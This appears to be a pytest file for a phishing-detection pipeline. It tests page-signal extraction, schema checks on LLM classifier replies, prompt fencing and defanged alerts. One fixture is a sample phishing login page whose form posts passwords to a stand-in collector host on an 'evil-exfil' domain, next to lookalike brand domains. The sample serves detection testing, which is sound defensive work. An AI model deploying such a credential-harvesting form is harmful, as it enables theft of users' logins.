"""Signals, verdicts, replies, prompts, attempts, notifications."""

from __future__ import annotations

import json
from datetime import datetime

import pytest
from pyspark.sql import functions as F

from mimicry.operators import verdicts as v
from mimicry.operators.signals import page_signals
from mimicry.plans import triage as tr
from mimicry.sources.sinks import notification_lines
from mimicry.sources.tables import SIGNALS

PHISHING = """<html><head><title> Sign in </title></head><body>
<form action="https://collector.evil-exfil.ru/save.php"><input type="password" name="id"></form></body></html>"""
PAGES = {
    "https://appleid-security.com/login": (PHISHING, ("Sign in", 1, True, ["evil-exfil.ru"], 0, True)),
    "https://lcloud-verify.live/": ('<title>For sale</title><iframe src="x"></iframe>', ("For sale", 0, False, [], 1, False)),
    "https://shop.example.com/": ('<form action="https://www.example.com/l"><input type="PASSWORD"></form>', (None, 1, True, [], 0, True)),
    "https://x.com/": ('<form action="/submit"><input name="user_password_1"></form>', (None, 1, False, [], 0, True)),
    "https://y.com/": ("", (None, 0, False, [], 0, False)),
    "https://z.com/": ('<title> </title><title>Second</title><form action="http://b.org/"><form action="//a.c.org/x">'
                       '<form action="http://10.0.0.1/"><form action="http://w.b.org">',
                       ("Second", 4, False, ["b.org", "c.org", "10.0.0.1"], 0, False)),
}


def test_page_signals(spark):
    rows = [(i, url, html) for i, (url, (html, _)) in enumerate(PAGES.items())]
    got = page_signals(spark.createDataFrame(rows, "page_id int, url string, html string")).orderBy("page_id").collect()
    for row, (_, want) in zip(got, PAGES.values(), strict=True):
        s = row.signals
        assert (s.title, s.form_count, s.has_password_input, s.cross_domain_form_targets, s.iframe_count,
                row.has_login_form) == want


def test_malformed_html(spark):
    df = spark.createDataFrame([(1, "https://x.com/", "<html><form><input type=password"), (2, "nonsense", None)],
                               "page_id int, url string, html string")
    rows = {r.page_id: r.signals for r in page_signals(df).collect()}
    assert rows[1].form_count == 1
    assert rows[2].title is None and rows[2].cross_domain_form_targets == []


REPLIES = {
    '{"label": "phishing", "confidence": 0.9, "brand_impersonated": "PayPal", "evidence": "logo"}': ("phishing", 0.9, "PayPal"),
    '```json\n{"label": "parked", "confidence": 1, "brand_impersonated": "n/a", "evidence": "e"}\n```': ("parked", 1.0, None),
    'Here: {"label": "unknown", "confidence": 0, "brand_impersonated": null, "evidence": "{odd}"} bye': ("unknown", 0.0, None),
    "no json at all": "no JSON object",
    '{"label": "phishing"': "no JSON object",
    '{"label": "phishing",}': "invalid JSON",
    '{"label": "malware", "confidence": 0.5, "evidence": "e"}': "schema: label",
    '{"label": "phishing", "confidence": 1.5, "evidence": "e"}': "schema: confidence",
    '{"label": "phishing", "confidence": 0.5}': "schema: evidence",
    json.dumps({"label": "phishing", "confidence": 0.5, "evidence": "e" * 1001}): "schema: evidence",
    json.dumps({"label": "phishing", "confidence": 0.5, "evidence": "e", "brand_impersonated": "b" * 201}): "schema: brand",
}


def test_replies(spark):
    df = spark.createDataFrame(list(enumerate(REPLIES)), "i int, reply string")
    for row, want in zip(v.parse_replies(df).orderBy("i").collect(), REPLIES.values(), strict=True):
        if isinstance(want, str):
            assert want in row.error and row.verdict is None
        else:
            assert row.error is None
            assert (row.verdict.label, row.verdict.confidence, row.verdict.brand_impersonated) == want


def test_prompt_cannot_be_left(spark):
    signals = ("T" + v.FENCE + "x", 1, True, False, ["a.org", "b.org"], 2, 1)
    df = spark.createDataFrame([("a.com", "paypal", None, signals), ("b.com", "x", "u", None)],
                               f"fqdn string, brand string, url string, s {SIGNALS}")
    rows = df.select(v.prompt(F.col("fqdn"), F.col("brand"), F.col("url"), F.col("s")).alias("p")).collect()
    lines = rows[0].p.split("\n")
    assert lines[0] == lines[-1] == v.FENCE and rows[0].p.count(v.FENCE) == 2
    assert lines[3:] == ["Final URL after redirects: unknown", "Page title: Tx", "Forms: 1", "Password inputs: 1",
                         "Credential-like field present: False", "Forms posting to another domain: ['a.org', 'b.org']",
                         "Iframes: 2", v.FENCE]
    assert len(rows[1].p.split("\n")) == 5


@pytest.mark.parametrize(
    ("text", "status"),
    [("net::ERR_NAME_NOT_RESOLVED", "dns_error"), ("getaddrinfo failed", "dns_error"), ("ERR_SSL_X", "connection_error"), ("boom", "error")],
)
def test_error_status(spark, text, status):
    assert spark.range(1).select(v.error_status(F.lit(text)).alias("s")).first().s == status


def test_attempts(spark):
    rows = [
        ("a.com", 1, 0, "https://a.com/", "timeout", "slow"), ("a.com", 1, 1, "http://a.com/", "ok", None),
        ("b.com", 1, 0, "https://b.com/", "connection_error", "refused"), ("b.com", 1, 1, "http://b.com/", "timeout", None),
        ("c.com", 1, 0, "https://c.com/", "dns_error", "nx"), ("c.com", 1, 1, "http://c.com/", "ok", None),
    ]
    df = spark.createDataFrame(rows, "fqdn string, visit int, attempt int, url string, status string, error string")
    got = {r.fqdn: (r.url, r.status, r.error) for r in v.fold_attempts(df).collect()}
    assert got["a.com"] == ("http://a.com/", "ok", None)
    assert got["b.com"] == ("http://b.com/", "timeout", "https://b.com/: refused | http://b.com/: timeout")
    assert got["c.com"] == ("https://c.com/", "dns_error", "nx")


def test_unplain_hosts_are_blocked(spark):
    df = spark.createDataFrame([("a.com",), ("x@y.com",)], "fqdn string")
    assert [r.error for r in v.blocked_hosts(df, F.current_timestamp()).collect()] == ["not a plain hostname: 'x@y.com'"]
    assert [r.url for r in v.visit_plan(df, ("https", "http")).orderBy("attempt").collect()] == ["https://a.com/", "http://a.com/"]


def test_rules_and_offline_verdicts(spark):
    login, bare, other = ("T", 1, True, False, ["x.org", "y.org"], 0, 1), ("", 0, False, False, [], 0, 0), ("T", 1, False, False, [], 0, 0)
    rows = [(1, "a.com", "ok", "a.png", "paypal", login), (2, "b.com", "ok", "a.png", "unknown", bare), (3, "c.com", "ok", "a.png", "x", other),
            (4, "d.com", "timeout", None, "x", None), (5, "e.com", "ok", "/etc/x", "x", login), (6, "f.com", "ok", "a.png", "x", None)]
    df = spark.createDataFrame(rows, f"capture_id bigint, fqdn string, status string, screenshot_path string, suspected_brand string, signals {SIGNALS}")
    got = {r.capture_id: (r.label, r.confidence, r.brand_impersonated, r.evidence) for r in tr.classify_by_rules(df, F.current_timestamp()).collect()}
    assert got[1] == ("phishing", 0.8, "paypal", "Login form on a.com, posting to x.org, y.org.")
    assert got[2][:2] == ("parked", 0.5) and got[3][:2] == ("unknown", 0.4) and got[6][:2] == ("unknown", 0.3)
    assert got[4] == ("unreachable", 1.0, None, "Capture failed with status timeout.")
    assert got[5][:2] == ("unknown", 0.0)


def test_notifications(spark):
    row = (1, "evil.com", "phishing", 0.9, 0.75, None, "see http://evil.com\x07 @all", "", "https://evil.com/a", datetime(2026, 1, 1))
    df = spark.createDataFrame([row], "verdict_id bigint, fqdn string, label string, confidence double, score double, "
                               "brand string, evidence string, screenshot_path string, final_url string, classified_at timestamp")  # fmt: skip
    line = notification_lines(df).first().asDict()
    assert line["brand"] == "unknown" and line["screenshot"] is None
    assert line["evidence"] == "see http://evil.com  @all" and line["detected_at"] == "2026-01-01T00:00:00.000000Z"
    text = df.select(tr.notification_text(df).alias("t")).first().t
    assert text == ("[phishing] evil[.]com (brand: unknown, confidence 0.90, score 0.75)\n"
                    "evidence: see hxxp://evil[.]com  @​all\nfinal URL: hxxps://evil[.]com/a")  # fmt: skip


#: (field, value as JSON, whether a reply with it fits the schema)
ODD_FIELDS = [
    ("confidence", "1e-1", True), ("confidence", '"0.9"', True), ("confidence", "null", False), ("confidence", "true", False),
    ("confidence", "{}", False), ("confidence", "[0.5]", False), ("confidence", '"NaN"', False), ("confidence", "1.5", False),
    ("brand_impersonated", "null", True), ("brand_impersonated", '" NONE "', True), ("brand_impersonated", "{}", False),
    ("brand_impersonated", "[]", False), ("brand_impersonated", "1", False), ("label", "1", False), ("label", '["phishing"]', False),
    ("evidence", "5", False), ("evidence", "null", False),
]


def test_odd_fields_of_replies(spark):
    rows = []
    for i, (field, value, _) in enumerate(ODD_FIELDS):
        fields = {"label": '"phishing"', "confidence": "0.5", "evidence": '"e"', field: value}
        rows.append((i, "so: {" + ",".join(f'"{k}":{x}' for k, x in fields.items()) + "} done"))
    got = v.parse_replies(spark.createDataFrame(rows, "i int, reply string")).orderBy("i").collect()
    for row, (field, value, fits) in zip(got, ODD_FIELDS, strict=True):
        assert (row.error is None) == fits and (row.verdict is not None) == fits, (field, value)
        assert fits or row.error.endswith(f": {field}")
